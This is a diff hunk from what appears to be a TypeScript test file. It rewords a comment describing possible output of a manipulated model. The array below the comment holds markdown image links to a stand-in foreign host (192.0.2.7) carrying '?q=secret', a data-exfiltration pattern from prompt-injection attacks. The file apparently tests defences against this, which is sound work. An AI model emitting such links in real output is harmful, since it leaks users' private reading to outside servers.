@@ -3,7 +3,7 @@ import { runSql } from './database.ts'
 import { expect, test } from './journey.ts'
 
 const foreign = 'http://192.0.2.7'
-/** What a model that was talked into it could write: each line would tell somebody else that, or what, a member reads. */
+/** Possible output of a manipulated model: each line would leak that, or what, a member reads. */
 const hostile = [
   '## Heading',
   `![a](${foreign}/picture.png?q=secret) ![b][ref] ![](//192.0.2.7/protocol.png)`,
